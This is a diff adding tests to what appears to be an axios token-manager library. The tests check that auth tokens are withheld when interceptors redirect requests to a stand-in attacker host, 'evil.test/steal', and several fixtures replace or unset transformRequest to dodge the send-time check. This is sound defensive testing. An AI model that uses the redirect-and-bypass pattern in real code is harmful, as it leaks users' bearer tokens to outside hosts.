@@ -43,6 +43,19 @@ async function setup(
     if (config.url === '/moved') config.url = 'https://evil.test/steal';
     if (config.url === '/rebased') config.baseURL = 'https://evil.test';
     if (config.url === '/elsewhere-allowed') config.url = '/v2/orders';
+    if (config.url === '/replaced') {
+      // Replaces the transforms altogether (ours included), then moves the request.
+      config.transformRequest = [(data) => `replaced:${JSON.stringify(data)}`];
+      config.url = 'https://evil.test/steal';
+    }
+    if (config.url === '/unset') {
+      config.transformRequest = undefined as never;
+      config.baseURL = 'https://evil.test';
+    }
+    if (config.url === '/rebuilt') {
+      // A new config object whose transforms are its own: our send-time check is not among them.
+      return { ...config, url: 'https://evil.test/steal', transformRequest: [(data: unknown) => data] };
+    }
     const url = config.url as unknown;
     if (url instanceof URL && url.pathname === '/in-place') url.hostname = 'evil.test';
     return config;
@@ -85,6 +98,31 @@ describe.each(versions)('a user interceptor that runs after ours, with %s', (_na
     expect(fetchTokens).not.toHaveBeenCalled();
   });
 
+  it('never sends the token where it moved the request after replacing transformRequest (or unsetting it); yours still run', async () => {
+    const { instance, calls, fetchTokens } = await setup(create, fromEvil);
+    const replaced = await instance.post('/replaced', { a: 1 }).catch((error: AxiosError) => error);
+    const unset = await instance.post('/unset', 'raw').catch((error: AxiosError) => error);
+    expect([replaced, unset].map((error) => (error as AxiosError).response?.status)).toEqual([401, 401]);
+    expect(sentOf(calls)).toEqual([
+      ['https://evil.test', null, null],
+      ['https://evil.test', null, null],
+    ]);
+    expect(calls.map(({ config }) => config.data)).toEqual(['replaced:{"a":1}', 'raw']);
+    expect(fetchTokens).not.toHaveBeenCalled();
+  });
+
+  it('a new config object without our check still reaches evil.test with the token (outside what we see), but its 401 refreshes and replays nothing', async () => {
+    const { instance, calls, fetchTokens } = await setup(create, fromEvil);
+    const error = await instance.get('/rebuilt').catch((reason: AxiosError) => reason);
+    expect((error as AxiosError).response?.status).toBe(401);
+    // Where it went, and the header as it was sent.
+    expect(calls.map((call) => [sentOf([call])[0]?.[0], call.authorization])).toEqual([
+      ['https://evil.test', 'Bearer at-0'],
+    ]);
+    expect(fetchTokens).not.toHaveBeenCalled();
+    expect(JSON.stringify(error)).not.toContain('at-0');
+  });
+
   it('keeps the token when it moves the request within allowed origins', async () => {
     const { instance, calls } = await setup(create, () => ({ status: 200 }));
     await instance.get('/elsewhere-allowed');
@@ -116,6 +154,50 @@ describe('a user interceptor that runs after ours, with a senderConstraint (DPoP
 });
 
 describe('detach() and the send-time check', () => {
+  it('checks a replay too: an interceptor that moves only the replay (replacing transformRequest) sends it no token', async () => {
+    const api = fakeApi(() => ({ status: 401 }));
+    const { tokens, fetchTokens } = await countingTokens();
+    managers.push(tokens);
+    const instance = axios.create({ baseURL, adapter: api.adapter });
+    let sends = 0;
+    instance.interceptors.request.use((config) => {
+      sends += 1;
+      if (sends === 2) {
+        config.transformRequest = [(data) => data];
+        config.url = 'https://evil.test/steal';
+      }
+      return config;
+    });
+    attachTokenManager(instance, tokens);
+    await instance.get('/orders').catch(() => undefined);
+    expect(sentOf(api.calls)).toEqual([
+      [baseURL, 'Bearer at-0', null],
+      ['https://evil.test', null, null],
+    ]);
+    expect(fetchTokens).toHaveBeenCalledTimes(1);
+  });
+
+  it('keeps the check of each of two attachments when a later interceptor replaces transformRequest', async () => {
+    const api = fakeApi(fromEvil);
+    const { tokens, fetchTokens } = await countingTokens();
+    managers.push(tokens);
+    const instance = axios.create({ baseURL, adapter: api.adapter });
+    instance.interceptors.request.use((config) => {
+      config.transformRequest = [(data) => data];
+      config.url = 'https://evil.test/steal';
+      return config;
+    });
+    attachTokenManager(instance, tokens);
+    attachTokenManager(instance, tokens, { header: 'X-Api-Token', scheme: '' });
+    await instance.get('/orders').catch(() => undefined);
+    const { headers } = api.calls[0]?.config ?? {};
+    expect([headers?.get('Authorization') ?? null, headers?.get('X-Api-Token') ?? null]).toEqual([
+      null,
+      null,
+    ]);
+    expect(fetchTokens).not.toHaveBeenCalled();
+  });
+
   it('takes its check out of the instance’s transformRequest, keeping yours and another attachment’s', async () => {
     const api = fakeApi(fromEvil);
     const { tokens } = await countingTokens();
@@ -141,4 +223,29 @@ describe('detach() and the send-time check', () => {
     detachSecond();
     expect(instance.defaults.transformRequest).toEqual(before);
   });
+
+  it.each(versions)(
+    '%s: installs no send-time check when no interceptor was registered before it (none can run after ours)',
+    async (_name, create) => {
+      const api = fakeApi(fromEvil);
+      const { tokens } = await countingTokens();
+      managers.push(tokens);
+      const instance = create(api.adapter as never);
+      const before = [...(instance.defaults.transformRequest as unknown[])];
+      attachTokenManager(instance, tokens);
+      // Registered after attachTokenManager: runs before ours, so the origin is judged after it moved.
+      instance.interceptors.request.use((config) => {
+        if (config.url === '/moved') config.url = 'https://evil.test/steal';
+        return config;
+      });
+      expect(instance.defaults.transformRequest).toEqual(before);
+      await instance.get('/moved').catch(() => undefined);
+      await instance.get('/orders');
+      expect(sentOf(api.calls)).toEqual([
+        ['https://evil.test', null, null],
+        [baseURL, 'Bearer at-0', null],
+      ]);
+      expect(Object.getOwnPropertyDescriptor(api.calls[1]?.config, 'transformRequest')?.set).toBeUndefined();
+    },
+  );
 });
